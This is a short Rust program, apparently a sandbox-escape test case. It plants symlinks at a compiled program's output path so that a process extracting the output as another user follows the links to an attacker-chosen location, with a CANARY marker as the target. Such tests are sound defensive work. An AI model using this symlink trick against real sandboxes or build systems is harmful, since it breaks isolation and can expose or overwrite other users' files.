// Puts a link where the compiled program will be, to a directory: the program is then moved through the link,
// and whoever brings the program out of the sandbox and follows links as another user brings out something
// else.
fn main() {
    std::fs::create_dir("/tmp/elsewhere").unwrap();
    std::os::unix::fs::symlink("CANARY", "/tmp/elsewhere/program").unwrap();
    std::os::unix::fs::symlink("/tmp/elsewhere", "/work/.program/program").unwrap();
}
